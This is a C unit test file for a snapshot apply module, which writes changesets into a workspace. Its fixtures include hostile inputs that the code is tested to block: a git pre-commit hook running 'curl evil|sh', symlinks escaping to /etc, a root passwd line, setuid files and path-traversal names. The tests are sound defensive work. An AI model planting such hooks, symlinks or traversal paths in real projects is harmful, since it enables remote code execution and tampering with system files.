/* Unit tests for snapshot/apply on the real file system: changesets built
 * by hand (hostile ones included), applied to a temp workspace; kill -9
 * mid-apply then resume. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "snapshot/apply.h"
#include "snapshot/decisions.h"

static struct err err;

#define FIXTURE_NAME "apply"
#define FIXTURE_FIELDS                                                        \
	int ws;      /* workspace */                                          \
	int outside; /* a directory next to it that must never be written */ \
	int rundir;  /* journal directory */
#define FIXTURE_INIT apply_init
#define FIXTURE_FINI apply_fini
#include "tests/unit/fixture.h"

static int apply_init(struct fixture *f)
{
	int dfd = open(f->dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	mkdirat(dfd, "ws", 0755);
	mkdirat(dfd, "outside", 0755);
	mkdirat(dfd, "run", 0755);
	f->ws = openat(dfd, "ws", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	f->outside = openat(dfd, "outside", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	f->rundir = openat(dfd, "run", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	close(dfd);
	return 0;
}

static void apply_fini(struct fixture *f)
{
	close(f->ws);
	close(f->outside);
	close(f->rundir);
}

/* ---- building changesets ---- */

static struct tree_attr file_attr(struct store *s, const char *content, uint32_t perm)
{
	struct tree_attr a = {.type = TREE_FILE, .perm = perm, .size = strlen(content)};
	OK(store_put(s, content, strlen(content), &a.digest, &err));
	return a;
}

static struct tree_attr link_attr(struct store *s, const char *target)
{
	struct tree_attr a = {.type = TREE_SYMLINK, .perm = 0777, .size = strlen(target)};
	OK(store_put(s, target, strlen(target), &a.digest, &err));
	return a;
}

static struct tree_attr dir_attr(uint32_t perm)
{
	return (struct tree_attr){.type = TREE_DIR, .perm = perm};
}

static char *get(int dfd, const char *name)
{
	struct buf b = BUF_INIT;
	struct err e = {0};
	if (fs_read_file_at(dfd, name, 1 << 20, &b, &e) < 0) {
		buf_release(&b);
		return NULL;
	}
	return buf_detach(&b, NULL);
}

static void assert_content(int dfd, const char *name, const char *want)
{
	_cleanup_free_ char *got = get(dfd, name);
	if (!got)
		fail_msg("'%s' missing", name);
	assert_string_equal(got, want);
}

static bool exists(int dfd, const char *name)
{
	struct stat st;
	return fstatat(dfd, name, &st, AT_SYMLINK_NOFOLLOW) == 0;
}

static mode_t perm_of(int dfd, const char *name)
{
	struct stat st;
	assert_int_equal(fstatat(dfd, name, &st, AT_SYMLINK_NOFOLLOW), 0);
	return st.st_mode & 07777;
}

static int do_apply(struct fixture *f, const struct changeset *cs, const struct decisions *d,
		    bool check, struct apply_report *rep)
{
	struct apply_opts o = {.check_only = check, .journal_dfd = f->rundir};
	return apply_changeset(f->s, cs, d, f->ws, &o, rep, &err);
}

/* ---- tests ---- */

static void test_basic(void **state)
{
	struct fixture *f = *state;
	put(f->ws, "mod", "old\n", 0644);
	put(f->ws, "del", "bye\n", 0644);
	put(f->ws, "chmod", "x\n", 0644);
	struct tree_attr o_mod = file_attr(f->s, "old\n", 0644), n_mod = file_attr(f->s, "new\n", 0644);
	struct tree_attr o_del = file_attr(f->s, "bye\n", 0644);
	struct tree_attr o_x = file_attr(f->s, "x\n", 0644), n_x = file_attr(f->s, "x\n", 0755);
	struct tree_attr n_add = file_attr(f->s, "added\n", 0600), d = dir_attr(0755);
	struct tree_attr l = link_attr(f->s, "../mod");
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_MODE, "chmod", &o_x, &n_x, RISK_EXECUTABLE);
	cs_add(&cs, CHANGE_DELETE, "del", &o_del, NULL, 0);
	cs_add(&cs, CHANGE_MODIFY, "mod", &o_mod, &n_mod, 0);
	cs_add(&cs, CHANGE_ADD, "new", NULL, &d, 0);
	cs_add(&cs, CHANGE_ADD, "new/f", NULL, &n_add, 0);
	cs_add(&cs, CHANGE_ADD, "new/l", NULL, &l, RISK_SYMLINK);

	struct apply_report rep = {0};
	OK(do_apply(f, &cs, NULL, true, &rep));
	assert_int_equal(rep.n_done, 6);
	assert_content(f->ws, "mod", "old\n");
	assert_false(exists(f->ws, "new"));
	apply_report_release(&rep);

	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_content(f->ws, "mod", "new\n");
	assert_false(exists(f->ws, "del"));
	assert_int_equal(perm_of(f->ws, "chmod"), 0755);
	assert_content(f->ws, "new/f", "added\n");
	assert_int_equal(perm_of(f->ws, "new/f"), 0600);
	assert_int_equal(perm_of(f->ws, "new"), 0755);
	char t[64] = {0};
	assert_int_equal(readlinkat(f->ws, "new/l", t, sizeof t), 6);
	assert_string_equal(t, "../mod");
	assert_false(exists(f->rundir, "apply-journal.json"));
	apply_report_release(&rep);

	/* Applying again finds everything in place. */
	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_int_equal(rep.n_already, 6);
	apply_report_release(&rep);
	cs_release(&cs);
}

static void test_conflict_nothing_written(void **state)
{
	struct fixture *f = *state;
	put(f->ws, "a", "base\n", 0644);
	put(f->ws, "b", "user edited\n", 0644);
	struct tree_attr oa = file_attr(f->s, "base\n", 0644), na = file_attr(f->s, "agent\n", 0644);
	struct tree_attr ob = file_attr(f->s, "base\n", 0644), nb = file_attr(f->s, "agent b\n", 0644);
	struct tree_attr nc = file_attr(f->s, "c\n", 0644);
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_MODIFY, "a", &oa, &na, 0);
	cs_add(&cs, CHANGE_MODIFY, "b", &ob, &nb, 0);
	cs_add(&cs, CHANGE_ADD, "c", NULL, &nc, 0);
	cs_add(&cs, CHANGE_ADD, "d", NULL, &nc, 0);
	put(f->ws, "d", "user made d\n", 0644);
	struct apply_report rep = {0};
	assert_int_equal(do_apply(f, &cs, NULL, false, &rep), -EEXIST);
	assert_int_equal(rep.n_conflicts, 2);
	assert_int_equal(rep.items[1].status, APPLY_CONFLICT);
	assert_non_null(strstr(rep.items[1].detail, "content changed"));
	assert_int_equal(rep.items[3].status, APPLY_CONFLICT);
	assert_content(f->ws, "a", "base\n");
	assert_false(exists(f->ws, "c"));
	assert_false(exists(f->rundir, "apply-journal.json"));
	apply_report_release(&rep);
	/* --check says the same without writing. */
	assert_int_equal(do_apply(f, &cs, NULL, true, &rep), -EEXIST);
	apply_report_release(&rep);
	cs_release(&cs);
}

static void test_host_dir_now_symlink(void **state)
{
	struct fixture *f = *state;
	/* The snapshot had dir/ with a file; during the run the user (or
	 * anything) replaced dir by a symlink to a directory outside. */
	assert_int_equal(symlinkat("../outside", f->ws, "dir"), 0);
	assert_int_equal(symlinkat("/etc", f->ws, "etc"), 0);
	struct tree_attr d = dir_attr(0755);
	struct tree_attr o = file_attr(f->s, "x\n", 0644), n = file_attr(f->s, "pwned\n", 0644);
	struct changeset cs = {0};
	(void)d;
	cs_add(&cs, CHANGE_ADD, "dir/new", NULL, &n, 0);
	cs_add(&cs, CHANGE_MODIFY, "dir/x", &o, &n, 0);
	cs_add(&cs, CHANGE_ADD, "etc/passwd-airlock-test", NULL, &n, 0);
	struct apply_report rep = {0};
	assert_int_equal(do_apply(f, &cs, NULL, false, &rep), -EEXIST);
	assert_int_equal(rep.n_conflicts, 3);
	assert_non_null(strstr(rep.items[0].detail, "symlink"));
	assert_false(exists(f->outside, "new"));
	assert_false(exists(f->outside, "x"));
	assert_false(access("/etc/passwd-airlock-test", F_OK) == 0);
	apply_report_release(&rep);
	cs_release(&cs);
}

static void test_agent_symlink_then_beneath(void **state)
{
	struct fixture *f = *state;
	struct tree_attr l = link_attr(f->s, "/etc"), n = file_attr(f->s, "root::0:0\n", 0644);
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_ADD, "a", NULL, &l, RISK_SYMLINK | RISK_SYMLINK_ESCAPE);
	cs_add(&cs, CHANGE_ADD, "a/passwd", NULL, &n, 0);
	_cleanup_(decisions_freep) struct decisions *d = decisions_new(NULL, NULL);
	decisions_set(d, "a", DECISION_ACCEPT);
	struct apply_report rep = {0};
	assert_int_equal(do_apply(f, &cs, d, false, &rep), -EINVAL);
	assert_non_null(strstr(err.msg, "beneath 'a'"));
	assert_false(exists(f->ws, "a"));
	apply_report_release(&rep);
	/* Without the explicit accept the escaping symlink is held back and
	 * a/passwd then goes into a real directory "a" made for it. */
	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_int_equal(rep.items[0].status, APPLY_HELD);
	struct stat st;
	assert_int_equal(fstatat(f->ws, "a", &st, AT_SYMLINK_NOFOLLOW), 0);
	assert_true(S_ISDIR(st.st_mode));
	apply_report_release(&rep);
	cs_release(&cs);
}

static void test_hostile_paths(void **state)
{
	struct fixture *f = *state;
	struct tree_attr n = file_attr(f->s, "x\n", 0644);
	const char *bad[] = {"/abs", "../up", "a/../../b", "a//b", "./a", "a/.", ""};
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		struct changeset cs = {0};
		cs_add(&cs, CHANGE_ADD, bad[i], NULL, &n, 0);
		struct apply_report rep = {0};
		assert_int_equal(do_apply(f, &cs, NULL, false, &rep), -EINVAL);
		apply_report_release(&rep);
		cs_release(&cs);
	}
	/* 10,000 levels: a clear error, no recursion, nothing written. */
	struct buf p = BUF_INIT;
	for (int i = 0; i < 10000; i++)
		buf_puts(&p, i ? "/d" : "d");
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_ADD, p.data, NULL, &n, 0);
	struct apply_report rep = {0};
	assert_int_equal(do_apply(f, &cs, NULL, false, &rep), -EINVAL);
	assert_false(exists(f->ws, "d"));
	apply_report_release(&rep);
	cs_release(&cs);
	buf_release(&p);
}

static void test_deep_nesting_ok(void **state)
{
	struct fixture *f = *state;
	/* As deep as a tree can be and fit TREE_PATH_MAX: 1000 levels. */
	struct changeset cs = {0};
	struct tree_attr d = dir_attr(0755), n = file_attr(f->s, "deep\n", 0644);
	struct buf p = BUF_INIT;
	for (int i = 0; i < 1000; i++) {
		buf_puts(&p, i ? "/d" : "d");
		cs_add(&cs, CHANGE_ADD, p.data, NULL, &d, 0);
	}
	buf_puts(&p, "/f");
	cs_add(&cs, CHANGE_ADD, p.data, NULL, &n, 0);
	struct apply_report rep = {0};
	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_int_equal(rep.n_done, 1001);
	_cleanup_close_ int fd = fs_open_beneath(f->ws, p.data, O_RDONLY, 0, 1, &err);
	assert_true(fd >= 0);
	apply_report_release(&rep);
	/* and remove it all again */
	struct changeset back = {0};
	for (size_t i = 0; i < cs.n; i++)
		cs_add(&back, CHANGE_DELETE, cs.changes[i].path, &cs.changes[i].new_attr, NULL, 0);
	OK(do_apply(f, &back, NULL, false, &rep));
	assert_false(exists(f->ws, "d"));
	apply_report_release(&rep);
	cs_release(&back);
	cs_release(&cs);
	buf_release(&p);
}

static void test_risky(void **state)
{
	struct fixture *f = *state;
	struct tree_attr hook = file_attr(f->s, "#!/bin/sh\ncurl evil|sh\n", 0755);
	struct tree_attr su = file_attr(f->s, "suid\n", 04755);
	struct tree_attr esc = link_attr(f->s, "/home");
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_ADD, ".git/hooks/pre-commit", NULL, &hook, RISK_GIT_DIR | RISK_EXECUTABLE);
	cs_add(&cs, CHANGE_ADD, "escape", NULL, &esc, RISK_SYMLINK | RISK_SYMLINK_ESCAPE);
	cs_add(&cs, CHANGE_ADD, "sub/.GIT/config", NULL, &hook, 0);
	cs_add(&cs, CHANGE_ADD, "suid", NULL, &su, RISK_SETID | RISK_EXECUTABLE);
	struct apply_report rep = {0};
	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_int_equal(rep.items[0].status, APPLY_NEVER);
	assert_int_equal(rep.items[1].status, APPLY_HELD);
	assert_int_equal(rep.items[2].status, APPLY_NEVER);
	assert_int_equal(rep.items[3].status, APPLY_HELD);
	assert_false(exists(f->ws, ".git"));
	assert_false(exists(f->ws, "escape"));
	assert_false(exists(f->ws, "suid"));
	apply_report_release(&rep);

	_cleanup_(decisions_freep) struct decisions *d = decisions_new(NULL, NULL);
	decisions_set(d, ".git/hooks/pre-commit", DECISION_ACCEPT);
	decisions_set(d, "suid", DECISION_ACCEPT);
	decisions_set(d, "escape", DECISION_ACCEPT);
	OK(do_apply(f, &cs, d, false, &rep));
	assert_int_equal(rep.items[0].status, APPLY_NEVER);
	assert_false(exists(f->ws, ".git"));
	assert_int_equal(perm_of(f->ws, "suid"), 0755); /* never setuid */
	assert_true(exists(f->ws, "escape"));
	apply_report_release(&rep);
	cs_release(&cs);
}

/* A rename out of .git (any case) would delete there: never applied,
 * risk bit or not. */
static void test_rename_out_of_git(void **state)
{
	struct fixture *f = *state;
	struct tree_attr conf = file_attr(f->s, "[core]\n", 0644);
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_RENAME, "conf", &conf, &conf, 0);
	cs.changes[0].old_path = xstrdup("sub/.Git/config");
	struct apply_report rep = {0};
	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_int_equal(rep.items[0].status, APPLY_NEVER);
	assert_false(exists(f->ws, "conf"));
	apply_report_release(&rep);
	cs_release(&cs);
}

static void test_type_changes(void **state)
{
	struct fixture *f = *state;
	mkdirat(f->ws, "d2f", 0755);
	put(f->ws, "d2f/inner", "i\n", 0644);
	put(f->ws, "f2d", "file\n", 0644);
	assert_int_equal(symlinkat("target", f->ws, "l2f"), 0);
	struct tree_attr d = dir_attr(0755), di = file_attr(f->s, "i\n", 0644);
	struct tree_attr ff = file_attr(f->s, "file\n", 0644), nf = file_attr(f->s, "now a file\n", 0644);
	struct tree_attr ol = link_attr(f->s, "target"), ro = dir_attr(0555);
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_TYPE, "d2f", &d, &nf, 0);
	cs_add(&cs, CHANGE_DELETE, "d2f/inner", &di, NULL, 0);
	cs_add(&cs, CHANGE_TYPE, "f2d", &ff, &ro, 0);
	cs_add(&cs, CHANGE_ADD, "f2d/child", NULL, &nf, 0);
	cs_add(&cs, CHANGE_TYPE, "l2f", &ol, &nf, 0);
	struct apply_report rep = {0};
	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_content(f->ws, "d2f", "now a file\n");
	assert_content(f->ws, "f2d/child", "now a file\n");
	assert_int_equal(perm_of(f->ws, "f2d"), 0555);
	assert_content(f->ws, "l2f", "now a file\n");
	apply_report_release(&rep);
	assert_int_equal(fchmodat(f->ws, "f2d", 0755, 0), 0);
	cs_release(&cs);
}

static void test_dir_delete_with_user_file(void **state)
{
	struct fixture *f = *state;
	mkdirat(f->ws, "gone", 0755);
	put(f->ws, "gone/a", "a\n", 0644);
	put(f->ws, "gone/user-added", "mine\n", 0644);
	struct tree_attr d = dir_attr(0755), a = file_attr(f->s, "a\n", 0644);
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_DELETE, "gone", &d, NULL, 0);
	cs_add(&cs, CHANGE_DELETE, "gone/a", &a, NULL, 0);
	struct apply_report rep = {0};
	assert_int_equal(do_apply(f, &cs, NULL, false, &rep), -EEXIST);
	assert_non_null(strstr(rep.items[0].detail, "user-added"));
	assert_content(f->ws, "gone/a", "a\n");
	apply_report_release(&rep);
	cs_release(&cs);
}

static void test_two_changesets(void **state)
{
	struct fixture *f = *state;
	put(f->ws, "x", "1\n", 0644);
	struct tree_attr a1 = file_attr(f->s, "1\n", 0644), a2 = file_attr(f->s, "2\n", 0644);
	struct tree_attr a3 = file_attr(f->s, "3\n", 0644);
	struct changeset c1 = {0}, c2 = {0};
	c1.out.b[0] = 1;
	c2.base.b[0] = 1;
	c2.out.b[0] = 2;
	cs_add(&c1, CHANGE_MODIFY, "x", &a1, &a2, 0);
	cs_add(&c2, CHANGE_MODIFY, "x", &a2, &a3, 0);
	cs_add(&c2, CHANGE_ADD, "y", NULL, &a3, 0);
	struct apply_report rep = {0};
	/* The second one first: conflict. */
	assert_int_equal(do_apply(f, &c2, NULL, false, &rep), -EEXIST);
	apply_report_release(&rep);
	OK(do_apply(f, &c1, NULL, false, &rep));
	apply_report_release(&rep);
	OK(do_apply(f, &c2, NULL, false, &rep));
	assert_content(f->ws, "x", "3\n");
	assert_content(f->ws, "y", "3\n");
	apply_report_release(&rep);
	cs_release(&c1);
	cs_release(&c2);
}

static void test_partial_blocks(void **state)
{
	struct fixture *f = *state;
	const char *old = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n";
	const char *new_ = "1\nTWO\n3\n4\n5\n6\n7\n8\n9\n10\nELEVEN\n12\n13\n";
	put(f->ws, "t", old, 0644);
	struct tree_attr o = file_attr(f->s, old, 0644), n = file_attr(f->s, new_, 0644);
	struct changeset cs = {0};
	cs_add(&cs, CHANGE_MODIFY, "t", &o, &n, 0);
	struct text_block *b = NULL;
	size_t nb = 0;
	OK(text_blocks_compute(old, strlen(old), new_, strlen(new_), &b, &nb, &err));
	assert_int_equal(nb, 3);
	_cleanup_(decisions_freep) struct decisions *d = decisions_new(NULL, NULL);
	decisions_set_block(d, "t", b[1].id, DECISION_REJECT);
	free(b);
	struct apply_report rep = {0};
	OK(do_apply(f, &cs, d, false, &rep));
	assert_content(f->ws, "t", "1\nTWO\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n");
	apply_report_release(&rep);
	cs_release(&cs);
}

/* ---- kill -9 mid-apply ---- */

#define NFILES 5000

static void kill_after(size_t done, size_t total, void *userdata)
{
	(void)total;
	if (done == *(size_t *)userdata)
		raise(SIGKILL);
}

static void big_changeset(struct fixture *f, struct changeset *cs)
{
	struct tree_attr d = dir_attr(0755);
	cs_add(cs, CHANGE_ADD, "many", NULL, &d, 0);
	char name[64], content[64];
	for (int i = 0; i < NFILES; i++) {
		snprintf(name, sizeof name, "many/f%05d", i);
		snprintf(content, sizeof content, "content of %d\n", i);
		struct tree_attr a = file_attr(f->s, content, 0644);
		cs_add(cs, CHANGE_ADD, name, NULL, &a, 0);
	}
	cs->out.b[0] = 9;
}

static void test_kill_and_resume(void **state)
{
	struct fixture *f = *state;
	struct changeset cs = {0};
	big_changeset(f, &cs);
	size_t stop = 2500;
	pid_t pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		struct apply_opts o = {.journal_dfd = f->rundir, .progress = kill_after,
				       .userdata = &stop};
		struct apply_report rep = {0};
		apply_changeset(f->s, &cs, NULL, f->ws, &o, &rep, &err);
		_exit(3);
	}
	int status;
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL);
	assert_true(exists(f->rundir, "apply-journal.json"));
	assert_true(exists(f->ws, "many/f00000"));
	assert_false(exists(f->ws, "many/f04999"));

	/* --check on the journal: pending and done, nothing unknown. */
	struct apply_report rep = {0};
	OK(do_apply(f, &cs, NULL, true, &rep));
	assert_true(rep.resumed);
	assert_int_equal(rep.n_unknown, 0);
	assert_true(rep.n_already >= 2500 && rep.n_already < NFILES);
	apply_report_release(&rep);

	OK(do_apply(f, &cs, NULL, false, &rep));
	assert_true(rep.resumed);
	assert_false(exists(f->rundir, "apply-journal.json"));
	apply_report_release(&rep);
	assert_content(f->ws, "many/f00000", "content of 0\n");
	assert_content(f->ws, "many/f04999", "content of 4999\n");
	_cleanup_free_ char *mid = get(f->ws, "many/f02500");
	assert_string_equal(mid, "content of 2500\n");
	cs_release(&cs);
}

static void test_kill_then_unknown_state(void **state)
{
	struct fixture *f = *state;
	struct changeset cs = {0};
	big_changeset(f, &cs);
	size_t stop = 10;
	pid_t pid = fork();
	if (pid == 0) {
		struct apply_opts o = {.journal_dfd = f->rundir, .progress = kill_after,
				       .userdata = &stop};
		struct apply_report rep = {0};
		apply_changeset(f->s, &cs, NULL, f->ws, &o, &rep, &err);
		_exit(3);
	}
	int status;
	waitpid(pid, &status, 0);
	/* Someone writes a path the journal still plans to create. */
	put(f->ws, "many/f04000", "meddling\n", 0644);
	struct apply_report rep = {0};
	assert_int_equal(do_apply(f, &cs, NULL, false, &rep), -EUCLEAN);
	assert_int_equal(rep.n_unknown, 1);
	assert_non_null(strstr(err.msg, "many/f04000"));
	assert_true(exists(f->rundir, "apply-journal.json"));
	assert_false(exists(f->ws, "many/f04999"));
	apply_report_release(&rep);
	cs_release(&cs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_basic, setup, teardown),
		cmocka_unit_test_setup_teardown(test_conflict_nothing_written, setup, teardown),
		cmocka_unit_test_setup_teardown(test_host_dir_now_symlink, setup, teardown),
		cmocka_unit_test_setup_teardown(test_agent_symlink_then_beneath, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_paths, setup, teardown),
		cmocka_unit_test_setup_teardown(test_deep_nesting_ok, setup, teardown),
		cmocka_unit_test_setup_teardown(test_risky, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rename_out_of_git, setup, teardown),
		cmocka_unit_test_setup_teardown(test_type_changes, setup, teardown),
		cmocka_unit_test_setup_teardown(test_dir_delete_with_user_file, setup, teardown),
		cmocka_unit_test_setup_teardown(test_two_changesets, setup, teardown),
		cmocka_unit_test_setup_teardown(test_partial_blocks, setup, teardown),
		cmocka_unit_test_setup_teardown(test_kill_and_resume, setup, teardown),
		cmocka_unit_test_setup_teardown(test_kill_then_unknown_state, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
